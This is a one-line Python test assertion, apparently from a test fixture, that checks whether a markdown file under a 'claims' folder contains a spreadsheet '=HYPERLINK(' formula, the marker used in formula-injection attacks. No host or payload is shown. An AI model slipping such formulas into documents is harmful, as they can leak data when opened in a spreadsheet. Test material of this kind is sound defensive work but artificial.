    assert "=HYPERLINK(" in (world.docs / "claims" / "formula.md").read_text("utf-8")
